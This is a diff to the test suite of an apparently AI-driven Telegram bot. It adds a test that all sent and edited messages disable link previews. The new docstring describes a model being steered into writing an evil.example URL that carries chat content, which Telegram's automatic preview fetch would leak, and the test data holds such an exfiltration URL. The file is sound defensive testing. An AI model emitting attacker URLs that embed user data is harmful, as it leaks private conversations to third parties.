@@ -281,7 +281,8 @@ async def test_a_send_keeps_only_the_new_message_id(telegram_daemon, fake_telegr
     assert bold["text"] == "bold reply"
     assert bold["entities"] == [{"type": "bold", "offset": 0, "length": 4}]
     assert bold["reply_parameters"] == {"message_id": 9, "allow_sending_without_reply": True}
-    assert plain == {"chat_id": 42, "text": "plain"}  # no empty entity list
+    no_preview = {"link_preview_options": {"is_disabled": True}}
+    assert plain == {"chat_id": 42, "text": "plain", **no_preview}  # no empty entity list
     sends = [c for c in fake_telegram.calls if c.method == "sendMessage"]
     assert {c.headers["content-type"] for c in sends} == {"application/json"}
 
@@ -316,3 +317,20 @@ async def test_an_answer_mentions_no_one_by_id(telegram_daemon, fake_telegram) -
     [sent] = [c.params for c in fake_telegram.calls if c.method == "sendMessage"]
     assert sent["text"].startswith("ask the boss or")
     assert [e.get("url") for e in sent["entities"]] == ["https://x.org"]
+
+
+async def test_the_bots_messages_show_no_link_preview(telegram_daemon, fake_telegram) -> None:
+    """Telegram's servers fetch a message's first link to preview it, with no one
+    clicking: a model steered into writing https://evil.example/?d=<the chat> leaked it
+    by itself. Answers, edits (a preview becoming the answer) and previews go without."""
+    from bot.messages import ChatKey, OutboundMessage
+
+    _, channel = await telegram_daemon()
+    key = ChatKey("telegram", "42")
+    link = "see https://evil.example/p.png?d=secret"
+    preview = await channel.post_preview(key, link, None)
+    await channel.send(OutboundMessage(key, link + " and more", preview_id=preview))
+    await channel.send(OutboundMessage(key, link))
+    calls = [c for c in fake_telegram.calls if c.method in ("sendMessage", "editMessageText")]
+    assert [c.method for c in calls] == ["sendMessage", "editMessageText", "sendMessage"]
+    assert all(c.params["link_preview_options"] == {"is_disabled": True} for c in calls)
